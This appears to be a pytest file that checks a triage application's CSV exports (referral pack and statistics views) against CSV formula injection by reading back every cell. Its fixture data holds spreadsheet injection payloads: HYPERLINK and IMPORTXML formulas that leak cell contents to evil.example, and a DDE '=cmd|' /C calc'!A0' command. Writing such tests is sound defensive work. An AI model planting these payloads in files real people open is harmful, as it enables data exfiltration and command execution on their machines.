"""CSV injection (issue 12): every cell of every CSV the program writes — the referral pack's
posts.csv and accounts.csv, and the statistics view's CSVs — is inert in a spreadsheet, ids and
URLs included. The posts come from an export whose every field starts with a formula trigger;
the pack is built for real, decrypted with the real `age`, and every cell is read back."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import zipfile
from pathlib import Path

import pytest

from tests.packs import helpers
from triage_app.core.csvsafe import TRIGGERS, inert, is_inert
from triage_app.packs.build import build_referral_pack

TRIGGER_PREFIXES = ["=", "+", "-", "@", "\t", "\r", " =", "\n@"]


def hostile_corpus(folder: Path, n: int = 6, platform: str = "facebook", media_every: int = 2):
    """An export where ids, URLs, handles, names, text, language and media names all start
    with a formula trigger."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for i in range(n):
        t = TRIGGER_PREFIXES[i % len(TRIGGER_PREFIXES)]
        u = TRIGGER_PREFIXES[(i + 3) % len(TRIGGER_PREFIXES)]
        media = []
        if media_every and i % media_every == 0:
            name = f"{t.strip() or '='}cmd{i}.png"
            (folder / name).write_bytes(helpers.PNG + i.to_bytes(4, "big"))
            media.append(name)
        rows.append(
            {
                "platform": platform,
                "post_id": f'{t}HYPERLINK("http://evil.example/?d="&A1;"x{i}")',
                "url": f"{u}https://evil.example/p{i}",
                "created_at": f"2025-03-0{1 + i % 9}T10:00:00Z",
                "text": f"{t}1+cmd|' /C calc'!A0 post {i}",
                "author_id": f"{u}2+3+a{i % 3}",
                "author_handle": f"@SUM(1+{i % 3})",
                "author_name": f'{t}IMPORTXML(CONCAT("http://evil/",A1),"//a") {i % 3}',
                "author_url": f"{t}http://evil.example/u{i % 3}",
                "language": f"{t}en",
                "media": media,
            }
        )
    path = folder / "export.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_all_inert(text: str, where: str) -> int:
    cells = all_cells(text)
    bad = [c for c in cells if not is_inert(c)]
    assert not bad, f"{where}: cells a spreadsheet would run: {bad!r}"
    return len(cells)


def test_inert_rule():
    for trigger in TRIGGERS:
        assert inert(trigger + "x") == "'" + trigger + "x"
    assert inert("  =1+1") == "'  =1+1"
    assert inert("plain") == "plain"
    assert inert(-3) == -3 and inert(-0.25) == -0.25 and inert(None) == ""
    assert not is_inert("-1+1") and not is_inert("=1") and is_inert("-0.25") and is_inert("'=1")


def test_pack_csvs_have_no_live_cell(make_store, tmp_path, monkeypatch):
    monkeypatch.setattr(helpers, "write_corpus", hostile_corpus)
    store = helpers.approved_store(make_store, tmp_path, n=8)
    # the hostile values really are in the store (the importer kept them)
    ids = [r[0] for r in store.execute("SELECT platform_post_id FROM posts")]
    assert len(ids) == 8 and sum(i[:1] in "=+-@" for i in ids) >= 4
    ident_path, pub = helpers.identity(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    build_referral_pack(store, "facebook", out / "p.age", recipients=[pub])
    plain = subprocess.run(
        ["age", "-d", "-i", str(ident_path), str(out / "p.age")], check=True, capture_output=True
    ).stdout
    archive = zipfile.ZipFile(io.BytesIO(plain))
    csvs = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"posts.csv", "accounts.csv"} <= set(csvs)
    counted = 0
    for name in csvs:
        text = archive.read(name).decode("utf-8")
        counted += assert_all_inert(text, name)
    posts = list(csv.DictReader(io.StringIO(archive.read("posts.csv").decode(), newline="")))
    assert len(posts) == 8 and counted > 8 * 12
    # the values are kept (readable as text), only made inert
    assert {
        p["post_id"][1:] if p["post_id"][:2] in {"'" + t for t in "=+-@"} else p["post_id"]
        for p in posts
    } == set(ids)
    assert all(p["url"].startswith("'") and p["account_id"].startswith("'") for p in posts)


@pytest.mark.qt_log_ignore("propagateSizeHints")
def test_statistics_csvs_have_no_live_cell(qtbot, make_store, tmp_path, monkeypatch):
    from triage_app.ui.stats_view import StatsView

    monkeypatch.setattr(helpers, "write_corpus", hostile_corpus)
    store = helpers.approved_store(make_store, tmp_path, n=8, platform="=cmd|' /c calc'!a0")
    _ident_path, pub = helpers.identity(tmp_path)
    build_referral_pack(store, "=cmd|' /c calc'!a0", tmp_path / "p.age", recipients=[pub])
    view = StatsView(store)  # no runner: the figures are computed inline
    qtbot.addWidget(view)
    saved = 0
    platform_seen = False
    for panel in view.panels.values():
        path = tmp_path / f"{panel.spec.name}.csv"
        panel.save_csv(path)
        text = path.read_text(encoding="utf-8")
        assert_all_inert(text, path.name)
        platform_seen = platform_seen or "'=cmd|' /c calc'!a0" in all_cells(text)
        saved += 1
    assert saved >= 5 and platform_seen
